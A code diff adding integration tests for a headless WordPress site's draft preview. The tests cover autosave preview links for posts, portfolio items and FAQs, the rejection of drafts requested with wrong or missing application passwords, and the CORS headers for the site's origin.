+// ── Preview ──────────────────────────────────────────────────────────────────
+describe("preview on the site", () => {
+  let draftId = 0;
+
+  it("the Preview link of a draft post, portfolio item or FAQ opens the site's /preview with type and id", async () => {
+    const draft = await asAdmin("POST", "posts", { title: "Preview me", content: "<p>Draft body.</p>", status: "draft" });
+    draftId = (draft.json as { id: number }).id;
+    // The block editor's Preview button saves an autosave and opens its preview_link.
+    const autosave = await asAdmin("POST", `posts/${draftId}/autosaves`, { title: "Preview me", content: "<p>Draft body, changed.</p>" });
+    expect(autosave.status, autosave.text).toBe(200);
+    expect((autosave.json as { preview_link: string }).preview_link).toBe(`${SITE}/preview?type=posts&id=${draftId}`);
+
+    const item = await asAdmin("POST", "portfolio", { title: "Preview loft", status: "draft" });
+    const itemId = (item.json as { id: number }).id;
+    const itemSave = await asAdmin("POST", `portfolio/${itemId}/autosaves`, { title: "Preview loft", content: "<p>x</p>" });
+    expect((itemSave.json as { preview_link: string }).preview_link).toBe(`${SITE}/preview?type=portfolio&id=${itemId}`);
+
+    // Unsaved changes of a published FAQ live in its autosave: the link says so.
+    const faq = await asAdmin("POST", "faq", { title: "Published question", content: "<p>A.</p>", status: "publish" });
+    const faqId = (faq.json as { id: number }).id;
+    const faqSave = await asAdmin("POST", `faq/${faqId}/autosaves`, { title: "Published question", content: "<p>A, better.</p>" });
+    expect((faqSave.json as { preview_link: string }).preview_link).toBe(`${SITE}/preview?type=faq&id=${faqId}&autosave=1`);
+    await runDispatch(); // the FAQ's publish
+  });
+
+  it("a draft is readable with context=edit and a valid application password from the site's origin, not with a wrong one or none", async () => {
+    const url = `${stack().api}/posts/${draftId}?context=edit`;
+    const ok = await request(url, { auth: adminAuth, origin: SITE });
+    expect(ok.status, ok.text).toBe(200);
+    expect((ok.json as { status: string; title: { raw: string } }).status).toBe("draft");
+    expect((ok.json as { title: { raw: string } }).title.raw).toBe("Preview me");
+    expect(ok.headers.get("access-control-allow-origin")).toBe(SITE);
+
+    // A wrong password is an anonymous request to WordPress 6.1 (its REST server authenticates
+    // only after it has checked for application-password errors), so both get the same 401.
+    for (const [what, auth] of [
+      ["a wrong application password", `Basic ${Buffer.from("clara:abcd efgh ijkl mnop qrst uvwx").toString("base64")}`],
+      ["the login password", `Basic ${Buffer.from("clara:contract-test-only").toString("base64")}`],
+      ["no password", undefined],
+    ] as const) {
+      const res = await request(url, { auth, origin: SITE });
+      expect(res.status, what).toBe(401);
+      expect(res.json?.code, what).toMatch(/^(rest_forbidden_context|incorrect_password)$/);
+      expect(res.text, what).not.toContain("Preview me");
+    }
+    const anonymous = await request(`${stack().api}/posts/${draftId}`);
+    expect(anonymous.status).toBe(401);
+    expect(anonymous.text).not.toContain("Draft body");
+
+    // The browser's preflight for that GET with Authorization, from the site.
+    const preflight = await request(url, { method: "OPTIONS", origin: SITE, headers: { "access-control-request-method": "GET", "access-control-request-headers": "authorization" } });
+    expect(preflight.headers.get("access-control-allow-origin")).toBe(SITE);
+    expect(preflight.headers.get("access-control-allow-headers")).toMatch(/\bAuthorization\b/);
+    expect(preflight.headers.get("access-control-allow-methods")).toMatch(/\bGET\b/);
+  });
+});
